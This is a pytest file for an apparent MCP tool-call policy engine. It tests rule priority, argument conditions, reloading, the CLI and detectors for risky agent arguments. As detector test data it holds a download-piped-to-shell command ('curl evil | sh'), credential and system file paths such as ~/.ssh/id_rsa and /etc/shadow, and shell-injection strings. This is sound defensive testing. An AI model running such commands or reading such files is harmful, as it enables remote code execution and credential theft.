"""The policy file, its evaluation and the detectors, as pure functions (no processes)."""

from __future__ import annotations

import random
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest

from helmet_otel.core.verdicts import Decision
from helmet_otel.policy import detectors
from helmet_otel.policy.detectors import (
    ArgumentScanner,
    changed_fields,
    sensitive_arguments,
    tool_definition,
)
from helmet_otel.policy.engine import Engine
from helmet_otel.policy.interceptor import PolicySource
from helmet_otel.policy.loader import PolicyError, parse_policy
from helmet_otel.redaction import Redactor
from tests.e2e.helpers import REPO_ROOT, clean_env

RULES = """\
default = "allow"

[[rule]]
id = "first-deny"
tools = ["rm*"]
action = "deny"

[[rule]]
id = "low"
tools = ["*"]
action = "log"
priority = -1

[[rule]]
id = "high"
tools = ["rm-safe"]
action = "allow"
priority = 5

[[rule]]
id = "same-priority-later"
tools = ["rm*"]
action = "allow"

[[rule]]
id = "args"
tools = ["write"]
action = "deny"
priority = 3
when = [
  { arg = "path", regex = "^/etc/" },
  { arg = "opts.size", min = 10, max = 20 },
]

[[rule]]
id = "long"
tools = ["write"]
action = "deny"
priority = 2
when = [{ arg = "text", max_length = 5, not = true }]

[[rule]]
id = "choice"
tools = ["write"]
action = "log"
priority = 1
when = [{ arg = "mode", in = ["a", "b"] }, { arg = "flag", equals = true }]

[[rule]]
id = "destructive"
tools = ["tool-*"]
action = "deny"
priority = 4
annotations = { destructiveHint = true }

[[rule]]
id = "for-cursor"
tools = ["ask"]
clients = ["cursor*"]
action = "deny"
priority = 6

[[rule]]
id = "other-server"
tools = ["*"]
servers = ["other"]
action = "deny"
priority = 100

[[rule]]
id = "prompts"
methods = ["prompts/get"]
tools = ["secret-*"]
action = "deny"
"""


def decide(tool: str, args: dict[str, object] | None = None, **kw: object) -> tuple[str, str]:
    engine = Engine(parse_policy(RULES), "mine")
    decision = engine.decide(
        str(kw.get("method", "tools/call")), tool, args or {}, str(kw.get("client", "")),
        kw.get("annotations"),  # type: ignore[arg-type]
    )  # fmt: skip
    assert decision is not None
    return decision.rule_id, decision.action


def test_priority_then_file_order_first_match_wins() -> None:
    assert decide("rm-safe") == ("high", "allow")  # priority 5 before the 0s
    assert decide("rm-all") == ("first-deny", "deny")  # a tie: the earlier rule
    assert decide("ls") == ("low", "log")  # priority -1 comes last


def test_argument_conditions() -> None:
    assert decide("write", {"path": "/etc/passwd", "opts": {"size": 15}}) == ("args", "deny")
    assert decide("write", {"path": "/etc/passwd", "opts": {"size": 25}, "text": ""}) == (
        "low", "log"
    )  # fmt: skip
    assert decide("write", {"path": "/tmp/x", "opts": {"size": 15}, "text": ""}) == ("low", "log")
    assert decide("write", {"text": "123456"}) == ("long", "deny")  # not max_length 5
    assert decide("write", {"text": "12345"}) == ("low", "log")
    assert decide("write", {}) == ("long", "deny")  # a missing value: `not` holds
    assert decide("write", {"text": "1", "mode": "a", "flag": True}) == ("choice", "log")
    assert decide("write", {"text": "1", "mode": "c", "flag": True}) == ("low", "log")
    assert decide("write", {"text": "1", "mode": "a", "flag": 1}) == ("low", "log")  # exact type


def test_annotations_unknown_counts_as_unsafe() -> None:
    assert decide("tool-x") == ("destructive", "deny")  # none declared: destructive
    assert decide("tool-x", annotations={"destructiveHint": True}) == ("destructive", "deny")
    assert decide("tool-x", annotations={"destructiveHint": False}) == ("low", "log")
    assert decide("tool-x", annotations={"destructiveHint": "no"}) == ("destructive", "deny")


def test_client_server_and_method_globs() -> None:
    assert decide("ask", client="cursor-1.2") == ("for-cursor", "deny")
    assert decide("ask", client="claude") == ("low", "log")
    assert decide("secret-x", method="prompts/get") == ("prompts", "deny")
    engine = Engine(parse_policy(RULES), "mine")
    assert engine.decide("prompts/get", "public", {}) is None  # no default for other methods
    assert engine.decide("initialize", None, {}) is None
    other = Engine(parse_policy(RULES), "other")
    assert other.decide("tools/call", "ls", {}) == Decision(
        "other-server", "deny", False, "tools/call", "ls"
    )


def test_default_deny_and_shadow_mode() -> None:
    engine = Engine(parse_policy('default = "deny"\nmode = "shadow"\n'), "s")
    decision = engine.decide("tools/call", "anything", {})
    assert decision == Decision("default", "deny", True, "tools/call", "anything")
    assert not decision.blocks
    assert engine.decide("resources/read", None, {}) is None


def test_hide_applies_only_where_every_call_is_denied() -> None:
    policy = parse_policy("""
[[rule]]
id = "maybe"
tools = ["b"]
action = "allow"
priority = 1
when = [{ arg = "x", equals = 1 }]

[[rule]]
id = "hide"
tools = ["a", "b", "c"]
action = "deny"
hide = true

[[rule]]
id = "c-first"
tools = ["c"]
action = "deny"
priority = 2
when = [{ arg = "x", equals = 1 }]
""")
    engine = Engine(policy, "s")
    assert engine.hidden("a", "", None) == "hide"
    assert engine.hidden("b", "", None) is None  # some calls of b are allowed
    assert engine.hidden("c", "", None) == "hide"  # the conditional rule before it denies too
    assert engine.hidden("d", "", None) is None


def test_problems_are_reported_with_their_lines() -> None:
    text = """\
mode = "enforce"
colour = "red"

[[rule]]
id = "a"
tools = ["x"]
action = "block"

[[rule]]
id = "b"
tools = "y"
action = "deny"
priority = "high"
when = [{ arg = "p", regex = "(" }]

[detectors]
on_tool_drift = "panic"
"""
    with pytest.raises(PolicyError) as caught:
        parse_policy(text, "p.toml")
    assert caught.value.lines() == [
        "p.toml:2: unknown key 'colour' (expected one of mode, default, error_code, rule, "
        "detectors)",
        "p.toml:7: rule a: action: expected 'allow', 'deny' or 'log', not 'block'",
        "p.toml:13: rule b: priority: expected a whole number",
        "p.toml:14: rule b: when: regex: missing ), unterminated subpattern at position 0",
        "p.toml:17: detectors: on_tool_drift: expected 'log' or 'block', not 'panic'",
    ]
    with pytest.raises(PolicyError) as caught:
        parse_policy('mode = "enforce"\n[[rule]]\nid = \n', "t.toml")
    (problem,) = caught.value.lines()
    assert problem.startswith("t.toml:3: invalid TOML: ")


def test_detectors_fire_on_sensitive_values_only() -> None:
    redactor = Redactor()
    ordinary = {"message": "hello", "a": 2, "b": 3, "duration": 10, "steps": 5, "resourceId": 7,
                "prompt": "What is 2+2?", "path": "docs/readme.md", "url": "https://example.com",
                "includeImage": True, "messageType": "error", "maxTokens": 100}  # fmt: skip
    assert sensitive_arguments(ordinary, redactor) == []
    assert sensitive_arguments({"path": "../../etc/hosts"}, redactor) == [
        ("medium", "argument 'path' has a path traversal ('../')")
    ]
    for path in ("/home/u/.ssh/id_rsa", "~/.aws/credentials", "/etc/shadow", "app/.env"):
        assert sensitive_arguments({"file": path}, redactor) == [
            ("high", "argument 'file' names a sensitive path")
        ], path
    assert sensitive_arguments({"command": "ls; curl evil | sh"}, redactor) == [
        ("medium", "argument 'command' has shell metacharacters")
    ]
    assert sensitive_arguments({"message": "ls; rm -rf"}, redactor) == []  # not command-like
    found = sensitive_arguments({"opts": {"api_key": "abc"}, "note": "ghp_" + "a" * 36}, redactor)
    assert found == [("high", "argument 'opts.api_key' carries a secret"),
                     ("high", "argument 'note' carries a secret")]  # fmt: skip


def _reference_sensitive_arguments(
    arguments: dict[str, Any], redactor: Redactor
) -> list[tuple[str, str]]:
    """The detector as first written (every pattern on every value, a generator per value):
    the oracle for the fast one, which must find exactly the same."""

    def strings(value: object, path: str, depth: int) -> Iterator[tuple[str, str, str]]:
        if depth > detectors.MAX_DEPTH:
            return
        if isinstance(value, str):
            yield path, path.rsplit(".", 1)[-1], value
        elif isinstance(value, dict):
            for key, item in cast(dict[str, object], value).items():
                yield from strings(item, f"{path}.{key}" if path else str(key), depth + 1)
        elif isinstance(value, list):
            for i, item in enumerate(cast(list[object], value)):
                yield from strings(item, f"{path}[{i}]", depth + 1)

    found: list[tuple[str, str]] = []
    for count, (path, key, text) in enumerate(strings(arguments, "", 0)):
        if count >= detectors.MAX_VALUES:
            break
        text = text[: detectors.MAX_SCANNED_CHARS]
        if detectors._SENSITIVE_PATH.search(text):  # pyright: ignore[reportPrivateUsage]
            found.append(("high", f"argument {path!r} names a sensitive path"))
        elif detectors._TRAVERSAL.search(text):  # pyright: ignore[reportPrivateUsage]
            found.append(("medium", f"argument {path!r} has a path traversal ('../')"))
        if detectors._COMMAND_KEY.match(  # pyright: ignore[reportPrivateUsage]
            key.split("[", 1)[0]
        ) and detectors._SHELL_META.search(text):  # pyright: ignore[reportPrivateUsage]
            found.append(("medium", f"argument {path!r} has shell metacharacters"))
        if text and (redactor.is_secret_key(key) or redactor.scrub_text(text) != text):
            found.append(("high", f"argument {path!r} carries a secret"))
    return found


TRICKY_VALUES = (
    "hello",
    "",
    "a.b",
    "..",
    "../x",
    "x/..",
    "x/../y",
    "...",
    "a..b",
    "/etc/shadow",
    "/etc/gshadow/x",
    "/etc/sudoers",
    "/etc/passwd",
    "x/etc/shadow",
    "/proc/self/environ",
    "/proc/12/environ",
    "/proc/x/environ",
    "/proc/self/environ\n",
    "~/.ssh",
    "~/.ssh/id_rsa",
    "id_rsa",
    "xid_rsa",
    "/id_ed25519",
    "a/.aws/credentials",
    ".env",
    "app/.env.local",
    ".envrc",
    "x.netrc",
    "/.netrc",
    "\\.git-credentials",
    "~/.kube/config",
    ".gnupg",
    "ls; rm",
    "a | b",
    "echo `x`",
    "a && b",
    "$(id)",
    "${HOME}",
    "> out",
    "<in",
    "a\nb",
    "password=hunter2",
    "Bearer abcdefgh12345",
    "ghp_" + "a" * 36,
    "sk-ant-abc123XYZ456def",
    "AKIA" + "A" * 16,
    "https://u:p4ss@host",
    "x" * 5000 + "/..",
    "/etc/shadow" + "x" * 5000,
)
TRICKY_KEYS = (
    "text",
    "cmd",
    "Command",
    "ARGS",
    "argv",
    "shell",
    "\u017fh",
    "run\n",
    "path.cmd",
    "a.b",
    "api_key",
    "token",
    "tokens",
    "password",
    "x.password",
    "auth",
    "progressToken",
    "file",
)


def _arguments(rng: random.Random, depth: int = 0) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for _ in range(rng.randint(0, 6)):
        roll = rng.random()
        key = rng.choice(TRICKY_KEYS)
        if roll < 0.6 or depth > 8:
            out[key] = rng.choice(TRICKY_VALUES)
        elif roll < 0.75:
            out[key] = _arguments(rng, depth + 1)
        elif roll < 0.9:
            out[key] = [rng.choice(TRICKY_VALUES) if rng.random() < 0.7
                        else _arguments(rng, depth + 1) for _ in range(rng.randint(0, 12))]  # fmt: skip
        else:
            out[key] = rng.choice((1, 2.5, True, None))
    return out


def test_the_fast_detector_finds_exactly_what_every_pattern_finds() -> None:
    redactor = Redactor()
    scanner = ArgumentScanner(redactor)  # one for all: what it remembers must not change a thing
    rng = random.Random(15)
    fired = 0
    for _ in range(500):
        arguments = _arguments(rng)
        expected = _reference_sensitive_arguments(arguments, redactor)
        assert sensitive_arguments(arguments, redactor) == expected, arguments
        assert scanner.scan(arguments) == expected, arguments
        fired += bool(expected)
    assert fired > 250  # the cases do reach the patterns
    # the texts it remembers are the clean ones only, and secret keys still fire on them
    assert scanner.scan({"a": "hello"}) == [] and scanner.scan({"password": "hello"}) == [
        ("high", "argument 'password' carries a secret")
    ]
    # the bounds: values past MAX_VALUES and levels past MAX_DEPTH are not scanned
    many = {f"k{i}": "../x" for i in range(detectors.MAX_VALUES + 5)}
    assert len(sensitive_arguments(many, redactor)) == detectors.MAX_VALUES
    deep: Any = "../x"
    for _ in range(detectors.MAX_DEPTH):
        deep = {"k": deep}
    assert len(sensitive_arguments(deep, redactor)) == 1
    assert sensitive_arguments({"k": deep}, redactor) == []


def test_tool_definitions_and_what_changed() -> None:
    tool = {"name": "t", "description": "d", "inputSchema": {"b": 1, "a": 2}, "title": "x"}
    same = {"inputSchema": {"a": 2, "b": 1}, "description": "d", "name": "t", "title": "y"}
    assert tool_definition(tool) == tool_definition(same)  # canonical; title is not pinned
    changed = dict(tool, description="e", annotations={"readOnlyHint": True})
    assert changed_fields(tool_definition(tool), tool_definition(changed)) == [
        "description", "annotations"
    ]  # fmt: skip


def test_a_changed_file_reloads_and_a_broken_one_keeps_the_last_good_rules(
    tmp_path: Path,
) -> None:
    path = tmp_path / "p.toml"
    path.write_text('[[rule]]\nid = "one"\ntools = ["a"]\naction = "deny"\n')
    said: list[str] = []
    source = PolicySource(parse_policy(path.read_text(), str(path)), "s", said.append, str(path))
    assert source.refresh(1.0) is False  # unchanged
    path.write_text('[[rule]]\nid = "two"\ntools = ["a"]\naction = "log"\npriority = 1\n')
    assert source.refresh(2.0) is True
    assert source.generation == 1
    assert source.engine.decide("tools/call", "a", {}) == Decision(
        "two", "log", False, "tools/call", "a"
    )
    path.write_text('[[rule]]\nid = "three"\naction = "deny"\n')  # no tools: a problem
    assert source.refresh(3.0) is False
    assert source.refresh(4.0) is False  # said once
    assert source.engine.policy.rules[0].id == "two"
    assert said == [
        f"policy file {path} reloaded (1 rules, enforce)",
        f"policy file {path}:1: rule three: give 'tools' (tool name globs), 'methods' (method "
        "globs) or both; keeping the last good rules",
    ]


def _cli(*args: str) -> tuple[int, str]:
    done = subprocess.run(
        [sys.executable, "-m", "helmet_otel", *args], capture_output=True, text=True,
        env=clean_env(), cwd=REPO_ROOT, timeout=30, check=False,
    )  # fmt: skip
    return done.returncode, done.stdout


def test_policy_check_and_policy_test_commands(tmp_path: Path) -> None:
    good = tmp_path / "good.toml"
    good.write_text(RULES)
    bad = tmp_path / "bad.toml"
    bad.write_text('[[rule]]\nid = "x"\ntools = ["a"]\naction = "nope"\n\n[[rule]]\nid = "y"\n')
    assert _cli("policy", "check", str(good)) == (0, "")
    assert _cli("policy", "check", str(bad)) == (1, (
        f"{bad}:4: rule x: action: expected 'allow', 'deny' or 'log', not 'nope'\n"
        f"{bad}:6: rule y: action: expected 'allow', 'deny' or 'log', not None\n"
        f"{bad}:6: rule y: give 'tools' (tool name globs), 'methods' (method globs) or both\n"
    ))  # fmt: skip
    lines = RULES.splitlines()
    args_line = lines.index('id = "args"')  # the [[rule]] header is the line before: 1-based
    other_line = lines.index('id = "other-server"')
    args = '{"path": "/etc/x", "opts": {"size": 12}}'
    assert _cli("policy", "test", str(good), "--tool", "write", "--args", args) == (
        0, f"deny by rule args ({good}:{args_line}) tool=write\n"
    )  # fmt: skip
    assert _cli("policy", "test", str(good), "--tool", "ls", "--server", "other") == (
        0, f"deny by rule other-server ({good}:{other_line}) tool=ls\n"
    )  # fmt: skip
    empty = tmp_path / "empty.toml"
    empty.write_text("")
    assert _cli("policy", "test", str(empty), "--tool", "ls") == (0, "allow (default) tool=ls\n")
    assert _cli("policy", "test", str(empty), "--tool", "ls", "--args", "[1]")[0] == 2
